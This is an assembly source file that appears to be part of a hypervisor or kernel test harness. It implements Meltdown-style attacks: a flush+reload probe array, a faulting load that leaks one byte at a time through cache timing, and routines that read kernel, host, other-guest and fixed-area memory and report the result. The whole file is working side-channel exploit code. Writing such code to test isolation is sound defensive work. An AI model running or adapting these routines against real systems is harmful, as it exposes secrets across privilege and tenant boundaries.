/*
 * A processor that checks late (docs/late-checks.md). A load that is denied has its datum for some instructions all the
 * same, and what they load leaves lines in the cache: a byte of somebody else's, told by the time that one of 256 lines
 * takes. All that the U/S bit protects is open to it; what is not mapped is not. First the host's memory and another
 * guest's, by the direct map; for a process its kernel's, too.
 */
#define PROBE           WINDOW          /* 4 pages: 256 lines */
#define NEAR            50

/* Maps the probe array, present and touched. */
map_probe:
        xorl    %r13d, %r13d
1:      movl    %r13d, %edx
        shll    $12, %edx
        addl    $PAGES_PA, %edx
        OWN_ENTRY %rdx, USER_FLAGS
        leaq    0x100(%r13), %rsi
        movq    $PT_USER_PA, %rdi
        call    set_entry
        incl    %r13d
        cmpl    $4, %r13d
        jb      1b
        ret

/* %rdi: an address. %rax: the byte there as far as can be told, or -1. Loses all but %rdi, %r8, %r9, %r13. */
steal_byte:
        movl    $PROBE, %esi
        xorl    %ecx, %ecx
1:      movl    %ecx, %eax
        shll    $6, %eax
        clflush (%rsi, %rax)
        incl    %ecx
        cmpl    $256, %ecx
        jb      1b
        mfence
        TRYING
        movzbl  (%rdi), %eax            /* it faults here ... */
        shll    $6, %eax
        movzbl  (%rsi, %rax), %eax      /* ... and this line is there now */
2:      jmp     2b
        DONE
        xorl    %ecx, %ecx
        orl     $-1, %ebx
3:      rdtsc
        movl    %eax, %r10d
        movl    %ecx, %edx
        shll    $6, %edx
        movzbl  (%rsi, %rdx), %edx
        rdtsc
        subl    %r10d, %eax
        cmpl    $NEAR, %eax
        jae     4f
        cmpl    $0, %ebx
        jge     5f                      /* two lines: no cache at all, or it was not us */
        movl    %ecx, %ebx
4:      incl    %ecx
        cmpl    $256, %ecx
        jb      3b
        movslq  %ebx, %rax
        ret
5:      movq    $-1, %rax
        ret

/* %rdi: an address. Reads 8 bytes there, and reports them. */
steal_word:
        xorl    %r8d, %r8d
        movl    $8, %r13d
        addq    $7, %rdi
1:      call    steal_byte
        testq   %rax, %rax
        js      2f
        shlq    $8, %r8
        orq     %rax, %r8
        decq    %rdi
        decl    %r13d
        jnz     1b
        incq    %rdi
        REPORT  R_READ, %rdi, %r8
2:      ret

        .macro STEAL
        movq    PARAMS + AP_SECRET_VA, %rdi
        call    steal_word
        movq    PARAMS + AP_VICTIM_VA, %rdi
        call    steal_word
        .endm

/* The kernel. At ring 1 it is a supervisor to the processor, and has no need of this. */
ATTACK  meltdown
        call    map_probe
        STEAL
        END

ATTACK  user_meltdown
        call    map_probe
        movq    VIRT(KERNEL_PAGE_PA), %rax
        GO_USER 1f
1:      STEAL
        movq    $VIRT(KERNEL_PAGE_PA), %rdi
        call    steal_word
        EXIT

/*
 * And what must be mapped while a guest runs, since the processor goes there at each event. It can be no secret: the
 * text is public, but the PDA has the host's stack in it.
 */
ATTACK  meltdown_fixed_area
        call    map_probe
        GO_USER 1f
1:      xorl    %r9d, %r9d
2:      movq    PARAMS + AP_FIXED(, %r9, 8), %rdi
        call    steal_word
        incl    %r9d
        cmpq    PARAMS + AP_FIXED_COUNT, %r9
        jb      2b
        EXIT
